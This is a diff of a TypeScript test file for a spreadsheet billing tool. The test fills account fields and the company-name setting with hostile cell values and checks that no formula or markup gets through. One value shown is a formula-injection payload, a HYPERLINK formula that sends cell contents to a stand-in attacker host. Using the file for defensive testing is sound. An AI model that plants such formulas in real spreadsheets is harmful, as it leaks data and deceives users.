@@ -1,7 +1,8 @@
 import { describe, expect, it } from "vitest";
 import type { Cell } from "../../../src/book/grid.ts";
 import { PLAIN_HEADER } from "../../support/plain-book.ts";
-import { ANN, begin, type Story } from "../support/story.ts";
+import { putCell } from "../../workspace/sheets/build-spreadsheet.ts";
+import { begin, type Story } from "../support/story.ts";
 
 const HOSTILE: Readonly<Record<string, string>> = {
   "a formula that fetches": '=HYPERLINK("https://evil.example/?"&A1,"pay here")',
@@ -23,8 +24,8 @@ const HOSTILE: Readonly<Record<string, string>> = {
 
 const FIELDS = [...PLAIN_HEADER, "Our ref", "Owner", "Do not chase", "Language", "Billing link"] as const;
 
-/** A book in which every account has the text in another field, and the last one is as it should be. */
-function book(text: string): Cell[][] {
+/** A book in which every account is as it should be. */
+function book(): Cell[][] {
   const good = (accountId: string): Cell[] => [
     accountId,
     `Customer ${accountId}`,
@@ -35,8 +36,7 @@ function book(text: string): Cell[][] {
     "GBP",
     ...FIELDS.slice(PLAIN_HEADER.length).map(() => null),
   ];
-  const rows = FIELDS.map((_, at) => good(`K-${at}`).map((cell, column) => (column === at ? text : cell)));
-  return [[...FIELDS], ...rows, good("K-good")];
+  return [[...FIELDS], ...FIELDS.map((_, at) => good(`K-${at}`)), good("K-good")];
 }
 
 /** Formulas anywhere in the spreadsheets: nobody has written one. */
@@ -61,8 +61,10 @@ const KNOWN =
 
 describe.each(Object.entries(HOSTILE))("cells that hold %s", (_what, text) => {
   it("make drafts or faults, all counted, and neither formula, header nor markup", async () => {
-    const story = await begin({ accounts: book(text), settings: { "Company name": text } });
-    const report = story.on("2026-11-23").run();
+    const story = await begin({ accounts: book() });
+    // Every account but the last one has the text in another field.
+    for (const at of FIELDS.keys()) putCell(story.sheet("Accounts"), at + 2, at + 1, text);
+    const report = story.setting("Company name", text).on("2026-11-23").run();
     expect(report.isComplete).toBe(true);
     expect(formulas(story)).toEqual([]);
     expect(story.drafts().length).toBe(report.drafts);
@@ -79,7 +81,6 @@ describe.each(Object.entries(HOSTILE))("cells that hold %s", (_what, text) => {
     const accounted = story.rows("Accounts").filter(({ Why }) => typeof Why === "string" && Why !== "");
     expect(accounted.length).toBe(FIELDS.length + 1);
     expect(String(story.rows("Accounts").at(-1)?.Draft)).toMatch(/^CB-/);
-    expect(story.run().drafts).toBe(0);
-    expect(story.on("2026-11-24").run(ANN).isComplete).toBe(true);
+    expect(story.on("2026-11-24").run()).toMatchObject({ drafts: 0, withdrawn: 0, isComplete: true });
   });
 });
